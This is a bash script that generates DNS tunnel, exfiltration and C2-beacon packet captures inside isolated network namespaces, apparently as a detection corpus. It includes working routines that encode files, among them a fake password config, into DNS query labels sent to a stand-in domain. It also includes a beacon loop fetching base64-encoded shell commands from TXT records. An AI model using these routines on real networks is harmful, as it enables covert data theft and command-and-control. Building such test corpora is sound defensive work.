#!/usr/bin/env bash
# Generates DNS tunnel and exfiltration captures in data/tunnel/ with the
# real tools (iodine, dns2tcp, dig/kdig loops) between network namespaces
# this script creates and removes again. Nothing is routed outside them.
#
#   dnsae-tun-cli  198.51.100.11-.51  one address per tunnel (client side)
#   dnsae-tun-res  198.51.100.1       unbound, recursive, stub zones below
#                  203.0.113.1        (its upstream side, also the router)
#   dnsae-tun-auth 203.0.113.2        iodined   t1.tunnel.test
#                  203.0.113.3        dns2tcpd  t2.tcptun.test
#                  203.0.113.4        nsd       exfil-zone.test (wildcard under x., NXDOMAIN under h.)
#                  203.0.113.5        knotd     c2.beacon.test (TXT commands)
#                  0.0.0.0:8080       python3 http.server: the payload the tunnels fetch
#
# Every capture is taken on the client's link (c0), filtered to the one
# client address of that tunnel: through the resolver that is the
# client <-> resolver leg a sensor at the client edge sees; in the direct
# cases the client talks to the tunnel server itself.
#
# Usage: sudo scripts/corpus/gen-tunnel-corpus.sh [OUTDIR]   (default data/tunnel)
# Environment: MAX_PACKETS (default 1200) cuts each capture,
#              IODINE_TYPES (default "NULL TXT CNAME MX A PRIVATE SRV"),
#              KEEP_LOGS=DIR keeps the daemon logs.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here/../../data/tunnel}
max_packets=${MAX_PACKETS:-1200}
iodine_types=${IODINE_TYPES:-NULL TXT CNAME MX A PRIVATE SRV}
namespaces=(dnsae-tun-cli dnsae-tun-res dnsae-tun-auth)
cli_ns=dnsae-tun-cli res_ns=dnsae-tun-res auth_ns=dnsae-tun-auth
resolver=198.51.100.1

log() { printf '[gen-tunnel %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }

[ "$(id -u)" -eq 0 ] || { echo "gen-tunnel-corpus: must run as root (network namespaces)" >&2; exit 1; }
for tool in ip tcpdump iodine iodined dns2tcpc dns2tcpd nsd knotd unbound dig kdig curl base32 od editcap capinfos tshark node /usr/bin/python3; do
  command -v "$tool" >/dev/null || { echo "gen-tunnel-corpus: missing $tool (scripts/setup-debian.sh --test)" >&2; exit 1; }
done
if [ ! -c /dev/net/tun ]; then
  # iodine needs the tun device; namespaces share /dev with the host.
  mkdir -p /dev/net && mknod /dev/net/tun c 10 200 && chmod 0666 /dev/net/tun
  log "created /dev/net/tun"
fi

work=$(mktemp -d /tmp/dnsae-tunnel.XXXXXX)
# shellcheck source=lib-netns.sh
. "$here/lib-netns.sh"
trap cleanup EXIT
trap 'exit 130' INT TERM

# Client tools are time-boxed; dig reads its bounds from ~/.digrc.
cli() { HOME=$work timeout 90 ip netns exec "$cli_ns" "$@"; }
rows=$work/rows.tsv
: >"$rows"
# row FILE WHAT TOOL CLIENT DOMAIN HOW
row() { printf '%s\t%s\t%s\t%s\t%s\t%s\n' "$@" >>"$rows"; }

# ---------------------------------------------------------------- topology
build_topology() {
  make_namespaces
  veth "$cli_ns" c0 02:53:10:00:01:02 "$res_ns" r0 02:53:10:00:01:01
  veth "$res_ns" r1 02:53:10:00:02:01 "$auth_ns" a0 02:53:10:00:02:02
  in_ns "$cli_ns" ip addr add 198.51.100.10/24 dev c0
  local h
  for h in 11 12 13 14 15 16 17 21 22 23 24 25 26 27 31 32 33 41 42 43 51; do
    in_ns "$cli_ns" ip addr add "198.51.100.$h/24" dev c0
  done
  in_ns "$res_ns" ip addr add 198.51.100.1/24 dev r0
  in_ns "$res_ns" ip addr add 203.0.113.1/24 dev r1
  for h in 2 3 4 5; do in_ns "$auth_ns" ip addr add "203.0.113.$h/24" dev a0; done
  in_ns "$res_ns" sysctl -qw net.ipv4.ip_forward=1
  in_ns "$cli_ns" ip route add 203.0.113.0/24 via 198.51.100.1
  in_ns "$auth_ns" ip route add 198.51.100.0/24 via 203.0.113.1
}

# Tools without a bind option (iodine, dns2tcpc) take the source address
# from the route; one tunnel runs at a time, so the route names its client.
use_source() {
  in_ns "$cli_ns" ip route replace 198.51.100.1/32 dev c0 src "$1"
  in_ns "$cli_ns" ip route replace 203.0.113.0/24 via 198.51.100.1 src "$1"
}

# ---------------------------------------------------------------- servers
start_payload_server() {
  mkdir -p "$work/www"
  # Text and random data: what a tunnel user pulls through.
  head -c 3072 /dev/urandom | base64 >"$work/www/blob.txt"
  ip netns exec "$auth_ns" /usr/bin/python3 -m http.server 8080 --bind 0.0.0.0 --directory "$work/www" \
    >"$work/http.log" 2>&1 &
  pids+=("$!")
  wait_for 40 in_ns "$auth_ns" curl -sf -o /dev/null http://127.0.0.1:8080/blob.txt
}

zone_files() {
  mkdir -p "$work/nsd" "$work/knot/db"
  cat >"$work/nsd/exfil-zone.test.zone" <<'Z'
$ORIGIN exfil-zone.test.
$TTL 60
@      SOA ns1 hostmaster 2026120101 3600 600 86400 60
@      NS  ns1
ns1    A   203.0.113.4
; Any name under x. gets an answer (what a collector does to look normal);
; names under h. do not exist (NXDOMAIN, the answer is not needed).
*.x    A   192.0.2.7
h      TXT "v=1"
Z
  # The C2 zone: a command per check-in counter, a no-op for anything else.
  {
    printf '$ORIGIN c2.beacon.test.\n$TTL 30\n'
    printf '@ SOA ns1 hostmaster 2026120101 3600 600 86400 30\n@ NS ns1\nns1 A 203.0.113.5\n'
    printf '* TXT "bm9vcA=="\n'
    local cmds=(bm9vcA== c2xlZXAgNjA= d2hvYW1p bHMgLWxhIC90bXA= aWQ= dW5hbWUgLWE= bm9vcA== Y2F0IC9ldGMvaG9zdG5hbWU=)
    local i
    for ((i = 0; i < 48; i++)); do
      printf '%s%04x TXT "%s"\n' "$beacon_id" "$i" "${cmds[$((i % ${#cmds[@]}))]}"
    done
  } >"$work/knot/c2.beacon.test.zone"
}

start_nsd() {
  cat >"$work/nsd/nsd.conf" <<CONF
server:
    ip-address: 203.0.113.4
    port: 53
    username: ""
    chroot: ""
    zonesdir: "$work/nsd"
    database: ""
    zonelistfile: "$work/nsd/zone.list"
    xfrdfile: "$work/nsd/xfrd.state"
    xfrdir: "$work/nsd"
    pidfile: "$work/nsd/nsd.pid"
    logfile: "$work/nsd/nsd.log"
    server-count: 1
    verbosity: 1
remote-control:
    control-enable: no
zone:
    name: exfil-zone.test
    zonefile: "exfil-zone.test.zone"
CONF
  ip netns exec "$auth_ns" nsd -d -c "$work/nsd/nsd.conf" 2>"$work/nsd/nsd.stderr" &
  pids+=("$!")
  wait_for 60 sh -c "ip netns exec $auth_ns dig +time=1 +tries=1 @203.0.113.4 exfil-zone.test SOA | grep -q 'status: NOERROR'"
}

start_knot() {
  cat >"$work/knot/knot.conf" <<CONF
server:
    rundir: "$work/knot"
    listen: [ 203.0.113.5@53 ]
database:
    storage: "$work/knot/db"
log:
  - target: stderr
    any: notice
template:
  - id: default
    storage: "$work/knot"
    file: "%s.zone"
    zonefile-sync: -1
zone:
  - domain: c2.beacon.test
CONF
  ip netns exec "$auth_ns" knotd -c "$work/knot/knot.conf" 2>"$work/knot/knotd.log" &
  pids+=("$!")
  wait_for 60 sh -c "ip netns exec $auth_ns dig +time=1 +tries=1 @203.0.113.5 c2.beacon.test SOA | grep -q 'status: NOERROR'"
}

start_dns2tcpd() {
  mkdir -p "$work/dns2tcp"
  cat >"$work/dns2tcp/dns2tcpd.conf" <<CONF
listen = 203.0.113.3
port = 53
user = nobody
chroot = $work/dns2tcp
domain = t2.tcptun.test
resources = web:127.0.0.1:8080
CONF
  ip netns exec "$auth_ns" dns2tcpd -F -f "$work/dns2tcp/dns2tcpd.conf" -d 1 >"$work/dns2tcp/dns2tcpd.log" 2>&1 &
  pids+=("$!")
  sleep 0.5
}

start_unbound() {
  mkdir -p "$work/unbound"
  {
    unbound_preamble "$work/unbound"
    cat <<CONF
    interface: 198.51.100.1
    outgoing-interface: 203.0.113.1
    access-control: 198.51.100.0/24 allow
    do-ip6: no
    do-not-query-localhost: yes
    module-config: "iterator"
    # Minimised queries would hand the tunnel servers partial names they
    # cannot decode; most forwarding resolvers send the full name anyway.
    qname-minimisation: no
    cache-max-ttl: 300
    edns-buffer-size: 1232
    root-hints: ""
    local-zone: "test." nodefault
stub-zone:
    name: "t1.tunnel.test"
    stub-addr: 203.0.113.2
stub-zone:
    name: "t2.tcptun.test"
    stub-addr: 203.0.113.3
stub-zone:
    name: "exfil-zone.test"
    stub-addr: 203.0.113.4
stub-zone:
    name: "c2.beacon.test"
    stub-addr: 203.0.113.5
CONF
  } >"$work/unbound/unbound.conf"
  ip netns exec "$res_ns" unbound -d -c "$work/unbound/unbound.conf" 2>"$work/unbound/unbound.log" &
  pids+=("$!")
  wait_for 60 sh -c "ip netns exec $cli_ns dig +time=1 +tries=1 @198.51.100.1 exfil-zone.test SOA | grep -q 'status: NOERROR'"
}

# ---------------------------------------------------------------- iodine
# iodine_run TYPE via(direct|resolver) CLIENT: a fresh iodined per run, so
# each capture holds one whole session (login, autodetection, data).
iodine_run() {
  local type=$1 via=$2 client=$3 lower name server p ip_pid
  lower=$(tr 'A-Z' 'a-z' <<<"$type")
  name=iodine-$lower-$via
  server=$resolver
  [ "$via" = direct ] && server=203.0.113.2
  ip netns exec "$auth_ns" iodined -f -c -P "$iodine_pw" -l 203.0.113.2 -n 203.0.113.2 10.99.0.1/27 t1.tunnel.test \
    >"$work/iodined-$name.log" 2>&1 &
  ip_pid=$!
  pids+=("$ip_pid")
  wait_for 40 grep -q 'Listening' "$work/iodined-$name.log" || { tail -3 "$work/iodined-$name.log" >&2; }
  use_source "$client"
  start_capture "$name" "$cli_ns" c0 "port 53 and host $client" 100000
  ip netns exec "$cli_ns" timeout 60 iodine -f -r -T "$type" -P "$iodine_pw" "$server" t1.tunnel.test \
    >"$work/iodine-$name.log" 2>&1 &
  p=$!
  pids+=("$p")
  local how="not connected"
  if wait_for 100 sh -c "ip -n $cli_ns -4 addr show dns0 | grep -q 10.99.0"; then
    # Bounded traffic through the tunnel (no ping here): a 4 KB upload (the
    # server answers 501, the bytes went up in query names anyway), then
    # a 4 KB download.
    local up down
    up=$(in_ns "$cli_ns" timeout 30 curl -s -o /dev/null -w '%{size_upload}' --data-binary @"$work/upload.dat" \
      http://10.99.0.1:8080/up 2>/dev/null || true)
    down=$(in_ns "$cli_ns" timeout 30 curl -s -o /dev/null -w '%{size_download}' http://10.99.0.1:8080/blob.txt 2>/dev/null || true)
    how="HTTP through the tunnel: ${up:-0} B up, ${down:-0} B down"
  else
    log "iodine -T $type via $via did not come up: $(tail -2 "$work/iodine-$name.log" | tr '\n' ' ')"
  fi
  kill -TERM "$p" 2>/dev/null || true
  wait "$p" 2>/dev/null || true
  stop_capture "$name" "$max_packets"
  kill -TERM "$ip_pid" 2>/dev/null || true
  wait "$ip_pid" 2>/dev/null || true
  if [ "$how" = "not connected" ]; then
    # A handshake that never completed is not a tunnel; leave it out.
    rm -f "$out/$name.pcap"
    log "$name: no tunnel, capture left out"
    return 0
  fi
  local what="IP over DNS, -T $type, $([ "$via" = direct ] && echo 'straight to iodined' || echo 'through unbound')"
  row "$name.pcap" "$what" "iodine 0.7.0 -r -T $type" "$client" t1.tunnel.test "$how"
  log "$name: $how"
}

# ---------------------------------------------------------------- dns2tcp
dns2tcp_run() {
  local type=$1 via=$2 client=$3 lower name server p got
  lower=$(tr 'A-Z' 'a-z' <<<"$type")
  name=dns2tcp-$lower-$via
  server=$resolver
  [ "$via" = direct ] && server=203.0.113.3
  use_source "$client"
  start_capture "$name" "$cli_ns" c0 "port 53 and host $client" 100000
  ip netns exec "$cli_ns" timeout 60 dns2tcpc -z t2.tcptun.test -r web -l 2222 -T "$type" "$server" \
    >"$work/dns2tcpc-$name.log" 2>&1 &
  p=$!
  pids+=("$p")
  wait_for 20 sh -c "ip netns exec $cli_ns sh -c 'cat /proc/net/tcp' | grep -q ':08AE 00000000:0000 0A'" || true
  got=$(in_ns "$cli_ns" timeout 40 curl -s -o /dev/null -w '%{size_download}' http://127.0.0.1:2222/blob.txt 2>/dev/null || echo 0)
  kill -TERM "$p" 2>/dev/null || true
  wait "$p" 2>/dev/null || true
  stop_capture "$name" "$max_packets"
  local what="TCP over DNS, $type queries, $([ "$via" = direct ] && echo 'straight to dns2tcpd' || echo 'through unbound')"
  row "$name.pcap" "$what" "dns2tcp 0.5.2 -T $type" "$client" t2.tcptun.test "curl of a 4 KB file: $got B"
  log "$name: $got bytes through the tunnel"
}

# ---------------------------------------------------------------- exfiltration
# exfil_names FILE ENCODING SUFFIX: one query name per line,
# <seq>.<chunk>.<chunk>.SUFFIX, labels of 56 characters.
exfil_names() {
  local file=$1 enc=$2 suffix=$3
  case $enc in
    base32) base32 -w0 "$file" | tr -d '=' | tr 'A-Z' 'a-z' ;;
    hex) od -An -v -tx1 "$file" | tr -d " \n" ;;
  esac | fold -w 112 | awk -v s="$suffix" '{
    a = substr($0, 1, 56); b = substr($0, 57)
    printf "%d.%s%s.%s\n", NR, a, (b == "" ? "" : "." b), s
  }'
}

exfil_fast() {
  local enc=$1 client=$2 suffix=$3 name=exfil-$1-fast n
  exfil_names "$work/secret-$enc.dat" "$enc" "$suffix" | awk '{print $1 " A"}' >"$work/$name.batch"
  n=$(wc -l <"$work/$name.batch")
  start_capture "$name" "$cli_ns" c0 "port 53 and host $client" 100000
  cli dig -b "$client" @"$resolver" +short -f "$work/$name.batch" >/dev/null 2>&1 || true
  stop_capture "$name" "$max_packets"
  local ans="wildcard A 192.0.2.7"
  [ "${suffix%%.*}" = h ] && ans="NXDOMAIN"
  row "$name.pcap" "exfiltration of a $(stat -c %s "$work/secret-$enc.dat") B file in $enc labels, back to back, $ans" \
    "dig -f batch via unbound" "$client" exfil-zone.test "$n queries"
}

# Slow variant: one query every 1-2 s, bounded in count; runs in the
# background while the tunnels run.
exfil_slow() {
  local client=$1 name=exfil-base32-slow line i=0
  exfil_names "$work/secret-slow.dat" base32 x.exfil-zone.test | head -n "$slow_queries" >"$work/$name.names"
  while read -r line; do
    i=$((i + 1))
    HOME=$work timeout 10 ip netns exec "$cli_ns" kdig -b "$client" @"$resolver" +time=2 +retry=1 "$line" A >/dev/null 2>&1 || true
    sleep "1.$((RANDOM % 10))"
  done <"$work/$name.names"
}

beacon() {
  local client=$1 i
  for ((i = 0; i < beacon_queries; i++)); do
    HOME=$work timeout 10 ip netns exec "$cli_ns" kdig -b "$client" @"$resolver" +time=2 +retry=1 \
      "$(printf '%s%04x' "$beacon_id" "$i").c2.beacon.test" TXT >/dev/null 2>&1 || true
    sleep 2
  done
}

# ---------------------------------------------------------------- main
cleanup_stale
mkdir -p "$out"
printf '+time=2 +tries=2\n' >"$work/.digrc"
iodine_pw=$(head -c 12 /dev/urandom | base64 | tr -d '/+=')
# A short host id as implants encode it: base32 of a host name, lower case.
beacon_id=$(printf 'ws-17' | base32 | tr -d '=' | tr 'A-Z' 'a-z')
slow_queries=${SLOW_QUERIES:-36}
beacon_queries=${BEACON_QUERIES:-40}
head -c 4096 /dev/urandom >"$work/secret-base32.dat"
head -c 4096 /dev/urandom >"$work/upload.dat"
head -c 3072 /dev/urandom >"$work/secret-hex.dat"
# The slow one carries text (a config file), as a leak of credentials would.
{ for i in $(seq 1 80); do printf 'db%02d.password=%s\n' "$i" "$(head -c 9 /dev/urandom | base64)"; done; } >"$work/secret-slow.dat"

log "building namespaces"
build_topology
zone_files
start_payload_server
start_nsd
start_knot
start_dns2tcpd
start_unbound
log "servers up"

# The slow exfiltration and the beacon run alongside the tunnels, each
# captured on its own client address.
start_capture exfil-base32-slow "$cli_ns" c0 "port 53 and host 198.51.100.43" 100000
exfil_slow 198.51.100.43 &
slow_pid=$!
pids+=("$slow_pid")
start_capture beacon-txt "$cli_ns" c0 "port 53 and host 198.51.100.51" 100000
beacon 198.51.100.51 &
beacon_pid=$!
pids+=("$beacon_pid")

exfil_fast base32 198.51.100.41 x.exfil-zone.test
exfil_fast hex 198.51.100.42 h.exfil-zone.test

n=0
for t in $iodine_types; do
  n=$((n + 1))
  iodine_run "$t" direct "198.51.100.$((10 + n))"
  iodine_run "$t" resolver "198.51.100.$((20 + n))"
done

dns2tcp_run TXT resolver 198.51.100.31
dns2tcp_run KEY resolver 198.51.100.32
dns2tcp_run TXT direct 198.51.100.33

log "waiting for the slow exfiltration and the beacon"
wait "$slow_pid" || true
stop_capture exfil-base32-slow "$max_packets"
row exfil-base32-slow.pcap "exfiltration of a $(stat -c %s "$work/secret-slow.dat") B text file (first $(wc -l <"$work/exfil-base32-slow.names") chunks) in base32 labels, one query every 1-2 s, wildcard A" \
  "kdig loop via unbound" 198.51.100.43 exfil-zone.test "$(wc -l <"$work/exfil-base32-slow.names") queries"
wait "$beacon_pid" || true
stop_capture beacon-txt "$max_packets"
row beacon-txt.pcap "C2 beacon: TXT check-in every 2 s (host id $beacon_id + counter), base64 commands in TXT answers" \
  "kdig loop via unbound, knotd" 198.51.100.51 c2.beacon.test "$beacon_queries queries"

log "summary (README rows)"
while IFS=$'\t' read -r f what tool client dom how; do
  printf '| `%s` | %s | %s | %s | %s | %s | %s |\n' "$f" "$what" "$tool" "$client" "$dom" "$(packets "$out/$f")" "$how"
done <"$rows"
